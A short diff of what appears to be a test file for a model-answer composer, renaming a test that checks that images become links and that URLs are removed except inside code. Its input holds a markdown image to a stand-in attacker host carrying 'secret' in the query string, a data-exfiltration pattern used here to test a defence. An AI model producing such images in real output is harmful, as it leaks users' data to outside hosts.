@@ -80,7 +80,7 @@ describe('composeWithModel', () => {
     expect(answer.citations[1]?.quote).toBe(code);
   });
 
-  test('turns images into links and takes out addresses that no passage holds', async () => {
+  test('turns images into links and takes addresses out, but not of code', async () => {
     const { answer } = await answering(
       `${DEEP}【1】. ![x](https://evil.example/?q=secret) See https://evil.example/a. Code: \`https://a.example\``,
     );
